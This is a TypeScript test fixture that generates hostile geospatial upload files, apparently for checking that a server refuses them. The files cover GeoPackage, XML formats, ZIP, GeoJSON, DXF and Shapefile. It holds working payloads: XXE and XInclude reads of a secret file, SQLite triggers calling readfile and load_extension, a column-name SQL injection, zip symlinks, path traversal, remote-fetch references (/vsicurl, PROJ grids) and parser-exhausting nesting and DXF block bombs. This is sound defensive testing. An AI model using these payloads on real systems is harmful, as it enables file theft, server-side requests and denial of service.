/**
 * Files that somebody would bring as an area, of an attack later than that in security.md: each with what comes of it. What
 * it names outside itself (a file, an address) must not be met, and its claims must cost nobody.
 */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import gdal from 'gdal-async'
import { FIELD_RD } from './area-files.ts'
import { forgedGeoPackage, plainGeoPackage, type SchemaRow } from './hostile-geopackage.ts'
import { gml, kml, utf16 } from './hostile-xml.ts'
import { rawZip, type ZipEntry } from './raw-zip.ts'

export interface HostileFile {
  readonly name: string
  readonly bytes: () => Buffer
  /** The names of the areas in it, or the code of the refusal. */
  readonly gives: readonly string[] | string
  /** What else may come of it: the code of a bound that ends it first on a machine with other strengths. */
  readonly or?: string
}

interface Outside {
  /** A folder of the caller's, to make files in. */
  folder: string
  /** A file of the server's computer with a secret in it. */
  secret: string
  /** Of a server that must not be called. */
  address: string
}

const virtual = (sql: string): SchemaRow => ({ type: 'table', name: 'vt', sql })

function geoPackages({ folder, secret }: Outside): HostileFile[] {
  const forged = (name: string, rows: SchemaRow[], gives: HostileFile['gives'], layer?: string): HostileFile => ({
    name: `GeoPackage: ${name}`,
    bytes: () => forgedGeoPackage(folder, rows, layer),
    gives,
  })
  const changed = (name: string, sql: string, gives: HostileFile['gives']): HostileFile => ({
    name: `GeoPackage: ${name}`,
    bytes: () => {
      const path = plainGeoPackage(folder)
      const db = new Database(path)
      db.unsafeMode()
      db.pragma('foreign_keys = OFF')
      db.exec(`${dropTriggers(db)} ${sql}`)
      db.close()
      return readFileSync(path)
    },
    gives,
  })
  const wkb = (name: string, hex: string, gives: HostileFile['gives']) =>
    changed(name, `UPDATE veld SET geom = X'4750000140710000${hex}'`, gives)
  const nested = (depth: number): string => `${'010700000001000000'.repeat(depth)}0101000000${'00'.repeat(16)}`
  return [
    forged(
      'a virtual table spelt with a comment',
      [virtual(`create/**/virtual/**/table vt using VirtualText('${secret}')`)],
      'ACTIVE_CONTENT',
    ),
    forged('its pages as a table', [virtual('CREATE VIRTUAL TABLE vt USING dbstat')], 'ACTIVE_CONTENT'),
    forged(
      'an index of whole numbers',
      [virtual('CREATE VIRTUAL TABLE vt USING rtree_i32(id, a, b)')],
      'ACTIVE_CONTENT',
    ),
    forged(
      'a trigger that takes the place of a write to a view',
      [
        { type: 'view', name: 'v', sql: 'CREATE VIEW v AS SELECT 1 AS a' },
        {
          type: 'trigger',
          name: 't',
          table: 'v',
          sql: `CREATE TRIGGER t INSTEAD OF INSERT ON v BEGIN SELECT readfile('${secret}'); END`,
        },
      ],
      'ACTIVE_CONTENT',
    ),
    forged('a passing view', [{ type: 'view', name: 'v', sql: 'CREATE TEMP VIEW v AS SELECT 1' }], 'ACTIVE_CONTENT'),
    forged(
      'an index over a function',
      [{ type: 'index', name: 'i', table: 'veld', sql: `CREATE INDEX i ON veld (load_extension('${secret}'))` }],
      'NOT_UNDERSTOOD',
    ),
    changed(
      'a column that checks itself',
      `ALTER TABLE veld ADD COLUMN omschrijving TEXT CHECK (omschrijving <> hex(zeroblob(9)))`,
      ['Veld'],
    ),
    changed(
      'its schema as a layer',
      "UPDATE gpkg_geometry_columns SET table_name = 'sqlite_schema', column_name = 'sql'",
      'NO_AREAS',
    ),
    changed(
      'a name that ends its quotes',
      `UPDATE gpkg_geometry_columns SET column_name = 'geom" FROM veld UNION SELECT sql FROM sqlite_schema --'`,
      'NOT_UNDERSTOOD',
    ),
    changed(
      'a system that is a file',
      `UPDATE gpkg_geometry_columns SET srs_id = 9; INSERT INTO gpkg_spatial_ref_sys VALUES ('x', 9, 'NONE', 9, '${secret}', 'x')`,
      ['Veld'],
    ),
    wkb('four thousand million corners', '010300000001000000ffffffff', 'NO_AREAS'),
    wkb('a collection a hundred thousand deep', nested(100_000), 'NO_AREAS'),
    wkb('a kind of geometry that nobody knows', '01ffff000001000000', 'NO_AREAS'),
    {
      name: 'GeoPackage: more pages than it has',
      bytes: () => {
        const bytes = readFileSync(plainGeoPackage(folder))
        bytes.writeUInt32BE(0x7fff_ffff, 28)
        return bytes
      },
      gives: 'NOT_UNDERSTOOD',
    },
  ]
}

/** GDAL's triggers call functions that SQLite alone does not have. */
const dropTriggers = (db: Database.Database): string =>
  (db.prepare("SELECT name FROM sqlite_master WHERE type = 'trigger'").pluck().all() as string[])
    .map((name) => `DROP TRIGGER IF EXISTS "${name}";`)
    .join(' ')

function xml({ secret, address }: Outside): HostileFile[] {
  const row = (name: string, text: string | Buffer, gives: HostileFile['gives']): HostileFile => ({
    name: `XML: ${name}`,
    bytes: () => Buffer.from(text as string),
    gives,
  })
  const doctype = `<!DOCTYPE r [<!ENTITY x SYSTEM "file://${secret}">]>`
  const gpx = (above: string) =>
    `<?xml version="1.0" encoding="UTF-16"?>${above}<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1"><trk><name>&x;</name><trkseg><trkpt lat="52.1" lon="5.3"/><trkpt lat="52.2" lon="5.3"/></trkseg></trk></gpx>`
  const utf7 = gml('LEAK[&x;]', { above: doctype.replaceAll('<', '+ADw-').replaceAll('!', '+ACE-'), encoding: 'UTF-7' })
  const utf32 = (text: string) => {
    const bytes = Buffer.alloc(4 * text.length)
    for (let i = 0; i < text.length; i++) bytes.writeUInt32LE(text.charCodeAt(i), 4 * i)
    return Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), bytes])
  }
  const xinclude = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secret}" parse="text"/>`
  const vrt = (inside = '') =>
    `<?xml version="1.0"?>${inside}<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>CSV:${secret}</SrcDataSource><GeometryType>wkbPolygon</GeometryType></OGRVRTLayer></OGRVRTDataSource>`
  return [
    row('GPX with a document type in UTF-16', utf16(gpx(doctype), 'LE'), 'ACTIVE_CONTENT'),
    row('GPX without', utf16(gpx(''), 'BE'), 'NOT_UNDERSTOOD'),
    row(
      'a document type in small letters',
      gml('LEAK[&x;]', { above: doctype.replace('DOCTYPE', 'doctype') }),
      'ACTIVE_CONTENT',
    ),
    row('a document type in UTF-7', utf7, 'NO_AREAS'),
    row('a document type in UTF-32', utf32(gml('LEAK[&x;]', { above: doctype, encoding: 'UTF-32' })), 'NOT_UNDERSTOOD'),
    row('a text that is included', gml(xinclude), ['a']),
    row(
      'a style sheet of elsewhere',
      gml('Veld', { above: `<?xml-stylesheet type="text/xsl" href="${address}/x.xsl"?>` }),
      ['Veld'],
    ),
    row('a virtual dataset', vrt(), 'NOT_UNDERSTOOD'),
    row('a virtual dataset that looks like KML', vrt('<!-- <kml> -->'), 'NOT_UNDERSTOOD'),
    row(
      'a QGIS project',
      `<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'><qgis><projectlayers/></qgis>`,
      'ACTIVE_CONTENT',
    ),
    row(
      'KML with folders two hundred thousand deep',
      kml('Veld', { inside: '<Folder>'.repeat(200_000) }),
      'NOT_UNDERSTOOD',
    ),
    row('an attribute of ten megabytes', gml('Veld', { about: `a="${'x'.repeat(10_000_000)}"` }), 'NO_AREAS'),
  ]
}

function zips({ secret }: Outside): HostileFile[] {
  const row = (name: string, entries: () => ZipEntry[], gives: HostileFile['gives']): HostileFile => ({
    name: `ZIP: ${name}`,
    bytes: () => rawZip(entries()),
    gives,
  })
  const file = (name: string, contents: string | Buffer, more: Partial<ZipEntry> = {}): ZipEntry => ({
    name,
    contents: Buffer.from(contents as string),
    ...more,
  })
  const link = 0o120777 * 0x1_0000
  return [
    row('a link to a file', () => [file('a.geojson', secret, { external: link })], 'NOT_UNDERSTOOD'),
    row('a link beside an area', () => [file('a.gml', gml('Veld')), file('b.kml', secret, { external: link })], [
      'Veld',
    ]),
    row('a ZIP in a ZIP', () => [file('a.csv', rawZip([file('b.csv', '1 2')]))], 'ZIP_WITHOUT_AREAS'),
    row('a project of QGIS', () => [file('a.qgs', '<!DOCTYPE qgis>'), file('a.qgd', 'x')], 'ZIP_WITHOUT_AREAS'),
    row(
      'a template and a schema beside GML, which GDAL would follow',
      () => [
        file('a.gml', gml('Veld')),
        file(
          'a.gfs',
          `<GMLFeatureClassList><GMLFeatureClass><Name>${secret}</Name></GMLFeatureClass></GMLFeatureClassList>`,
        ),
        file('a.xsd', '<!DOCTYPE x><schema/>'),
      ],
      ['Veld'],
    ),
    row(
      'two names for the same bytes, a hundred times',
      () => {
        const packed = Buffer.from(gml('Veld'))
        return Array.from({ length: 100 }, (_, i) => file(`${i}.gml`, packed, { offset: 0 }))
      },
      Array.from({ length: 100 }, () => 'Veld'),
    ),
    row('a name that ends early', () => [file('a.kml\0.txt', kml('Veld'))], ['Veld']),
    row('a name of 65,000 letters', () => [file(`${'x'.repeat(64_996)}.gml`, gml('Veld'))], ['Veld']),
  ]
}

const POLYGON = { type: 'Polygon', coordinates: [FIELD_RD] }

function texts({ secret, address }: Outside): HostileFile[] {
  const row = (name: string, text: string | (() => string), gives: HostileFile['gives']): HostileFile => ({
    name,
    bytes: () => Buffer.from(typeof text === 'string' ? text : text()),
    gives,
  })
  const depth = 400_000
  const geojson = (crs: object) => JSON.stringify({ ...POLYGON, crs })
  return [
    row('GeoJSON: brackets without an end', () => '['.repeat(5_000_000), 'NOT_UNDERSTOOD'),
    row('GeoJSON: a string of quotes without an end', () => `["${'\\"'.repeat(2_000_000)}`, 'NOT_UNDERSTOOD'),
    row(
      'GeoJSON: collections in each other',
      () => `${'{"type":"GeometryCollection","geometries":['.repeat(depth)}${']}'.repeat(depth)}`,
      'NOT_UNDERSTOOD',
    ),
    row(
      'GeoJSON: coordinates in each other',
      () => `{"type":"Polygon","coordinates":${'['.repeat(depth)}${']'.repeat(depth)}}`,
      'NOT_UNDERSTOOD',
    ),
    row(
      'GeoJSON: a system of elsewhere',
      geojson({ type: 'link', properties: { href: `${address}/crs`, type: 'ogcwkt' } }),
      [''],
    ),
    row('GeoJSON: a system that is a file', geojson({ type: 'name', properties: { name: secret } }), ['']),
    row(
      'GeoJSON: a grid of elsewhere',
      geojson({ type: 'name', properties: { name: `+proj=longlat +nadgrids=@${address}/g,${secret}` } }),
      [''],
    ),
    row(
      'GeoJSON: a name for all objects',
      '{"__proto__":{"type":"Polygon","coordinates":[[[1,2]]]}}',
      'NOT_UNDERSTOOD',
    ),
    row(
      'GeoJSON: numbers without an end',
      '{"type":"Polygon","coordinates":[[[1e999,1e999],[1,1],[2,1e308],[1e999,1e999]]]}',
      'NOT_UNDERSTOOD',
    ),
    row(
      'WKT: collections in each other',
      () => `${'GEOMETRYCOLLECTION('.repeat(depth)}${')'.repeat(depth)}`,
      'NOT_UNDERSTOOD',
    ),
    row('text: the name of an address', `/vsicurl/${address}/x.csv`, 'NOT_UNDERSTOOD'),
    row(
      'MapInfo: two thousand million rings',
      'VERSION 300\nCharset "Neutral"\nDELIMITER ","\nCOLUMNS 0\nDATA\nRegion 2000000000\n  4\n1 2\n',
      'BROKEN_OFF',
    ),
  ]
}

/** Group code and value, a line each. */
const dxf = (...pairs: readonly (readonly [number, string | number])[]): string =>
  `${pairs.map(([code, value]) => `${code}\n${value}`).join('\n')}\n`

const section = (name: string, inside: string): string => dxf([0, 'SECTION'], [2, name]) + inside + dxf([0, 'ENDSEC'])
const insert = (block: string, times = 1) =>
  dxf([0, 'INSERT'], [8, '0'], [2, block], [10, 155000], [20, 463000], [70, times], [71, times], [44, 1], [45, 1])
const block = (name: string, inside: string) =>
  dxf([0, 'BLOCK'], [8, '0'], [2, name], [70, 0], [10, 0], [20, 0]) + inside + dxf([0, 'ENDBLK'], [8, '0'])
const line = dxf([0, 'LINE'], [8, '0'], [10, 0], [20, 0], [11, 5], [21, 5])
const drawing = (blocks: string, entities: string) =>
  section('HEADER', dxf([9, '$ACADVER'], [1, 'AC1009'])) +
  section('BLOCKS', blocks) +
  section('ENTITIES', entities) +
  dxf([0, 'EOF'])

/** 20,000 lines a block, copied as often as is taken: GDAL has work for hours. */
export const longDrawing = (): Buffer => Buffer.from(drawing(block('a', line.repeat(20_000)), insert('a', 316)))

function drawings(): HostileFile[] {
  const row = (name: string, text: () => string, gives: HostileFile['gives']): HostileFile => ({
    name: `DXF: ${name}`,
    bytes: () => Buffer.from(text()),
    gives,
  })
  const powers = Array.from({ length: 12 }, (_, i) => block(`b${i}`, i === 0 ? line : insert(`b${i - 1}`).repeat(10)))
  return [
    row('a block that holds itself', () => drawing(block('a', insert('a')), insert('a')), 'NO_AREAS'),
    row(
      'ten to the twelfth lines, by blocks of blocks',
      () => drawing(powers.join(''), insert('b11')),
      'TOO_MANY_CORNERS',
    ),
    row(
      'a block thirty thousand times thirty thousand',
      () => drawing(block('a', line), insert('a', 30_000)),
      'TOO_MANY_CORNERS',
    ),
    row(
      'a curve of the two thousand millionth degree',
      () =>
        drawing(
          '',
          dxf(
            [0, 'SPLINE'],
            [8, '0'],
            [70, 8],
            [71, 2_000_000_000],
            [72, 2_000_000_000],
            [73, 2_000_000_000],
            [40, 0],
            [10, 155000],
            [20, 463000],
          ),
        ),
      'BROKEN_OFF',
    ),
    row(
      'an outline of two thousand million corners',
      () => drawing('', dxf([0, 'LWPOLYLINE'], [8, '0'], [90, 2_000_000_000], [70, 1], [10, 155000], [20, 463000])),
      'NO_AREAS',
    ),
  ]
}

function binaries({ folder, secret }: Outside): HostileFile[] {
  const flat = Buffer.alloc(200)
  flat.write('fgb\x03fgb\x00', 'latin1')
  flat.writeBigUInt64LE(2n ** 40n, 40)
  const shape = (change: (files: Record<string, Buffer>) => void): Buffer => {
    const own = join(folder, `shape-${made++}`)
    mkdirSync(own)
    writeFileSync(join(own, 'veld.json'), JSON.stringify(POLYGON))
    const source = gdal.open(join(own, 'veld.json'))
    gdal.vectorTranslate(join(own, 'veld.shp'), source, ['-f', 'ESRI Shapefile', '-a_srs', 'EPSG:28992']).close()
    source.close()
    const files = Object.fromEntries(
      readdirSync(own)
        .filter((name) => name !== 'veld.json')
        .map((name) => [name, readFileSync(join(own, name))]),
    )
    change(files)
    return rawZip(Object.entries(files).map(([name, contents]) => ({ name, contents })))
  }
  const row = (name: string, change: (files: Record<string, Buffer>) => void, gives: HostileFile['gives']) => ({
    name: `Shapefile: ${name}`,
    bytes: () => shape(change),
    gives,
  })
  const grid = `GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","+proj=longlat +nadgrids=${secret} +no_defs"]]`
  return [
    { name: 'FlatGeobuf of 2^40 features', bytes: () => flat, gives: 'NO_AREAS' },
    {
      name: 'Parquet',
      bytes: () => Buffer.concat([Buffer.from('PAR1'), Buffer.alloc(64), Buffer.from('PAR1')]),
      gives: 'NOT_UNDERSTOOD',
    },
    row('two thousand million parts', (files) => void files['veld.shp']!.writeInt32LE(2_000_000_000, 144), 'NO_AREAS'),
    row('four thousand million rows', (files) => void files['veld.dbf']!.writeUInt32LE(0xffff_fff0, 4), ['']),
    row('an index that points behind its end', (files) => void files['veld.shx']!.writeInt32BE(0x3fff_ffff, 100), ['']),
    row(
      'letters of a file',
      (files) => void Object.assign(files, { 'veld.cpg': Buffer.from(`../../../..${secret}`) }),
      [''],
    ),
    row(
      'a system that is a grid of elsewhere',
      (files) => void Object.assign(files, { 'veld.prj': Buffer.from(grid) }),
      [''],
    ),
  ]
}
let made = 0

export const hostileFiles = (outside: Outside): HostileFile[] => [
  ...geoPackages(outside),
  ...xml(outside),
  ...zips(outside),
  ...texts(outside),
  ...drawings(),
  ...binaries(outside),
]
